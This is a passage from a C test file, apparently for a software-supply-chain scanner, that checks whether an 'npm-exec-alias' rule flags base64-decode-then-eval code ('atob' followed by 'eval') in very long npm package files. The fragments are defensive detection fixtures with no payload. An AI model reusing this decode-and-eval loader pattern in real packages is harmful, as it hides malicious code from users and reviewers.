        const struct scan_hit *h = find_rule(r, c->rule);
        if (c->severity == NO_HIT)
            cr_expect_null(h, "%s %s: %s", c->path, c->rule, h ? h->excerpt : "");
        else
            cr_expect_eq(h ? (int)h->severity : NO_HIT, c->severity, "%s %s: %s", c->path,
                         c->rule, h ? rules_severity_name(h->severity) : "no hit");
        scanner_result_free(r);
    }
    rules_free(rs);
}

/* npm-exec-alias early on a long line with code after it, and up to the
 * 3000th byte after the line: each place is tried once (the old pattern
 * retried 3000 bytes after every cut of the line and ran out of steps). */
static const struct exec_alias_case {
    const char *head;
    unsigned fills;       /* 2995 bytes each ("y+=1;" 599 times) */
    const char *tail;
    int severity;
} exec_alias_table[] = {
    {"var r = atob(a); eval(r); ", 3, "\n", SCAN_SEV_HIGH},
    {"var r = atob(a);\n", 1, "    eval(r);\n", SCAN_SEV_HIGH},
    {"var r = atob(a);\n", 1, "     eval(r);\n", NO_HIT},
};

Test(scanner, exec_alias_over_long_lines)
{
    struct rule_set *rs = rules_shipped();
    for (size_t i = 0; i < sizeof(exec_alias_table) / sizeof(*exec_alias_table); i++) {
        const struct exec_alias_case *c = &exec_alias_table[i];
        struct strbuf t = STRBUF_INIT;
        strbuf_puts(&t, c->head);
        for (unsigned k = 0; k < c->fills * 599; k++)
            strbuf_puts(&t, "y+=1;");
        if (c->fills > 1) {   /* and a second line of code after the long one */
            strbuf_putc(&t, '\n');
            for (unsigned k = 0; k < 599; k++)
                strbuf_puts(&t, "y+=1;");
        }
        strbuf_puts(&t, c->tail);
        struct scan_result *r = scan_one(rs, ECO_NPM, "package/index.js", strbuf_str(&t));
        const struct scan_hit *h = find_rule(r, "npm-exec-alias");
        cr_expect_eq(h ? (int)h->severity : NO_HIT, c->severity, "case %zu: %s", i,
                     h ? rules_severity_name(h->severity) : "no hit");
        scanner_result_free(r);
        strbuf_fini(&t);
    }
    rules_free(rs);
}
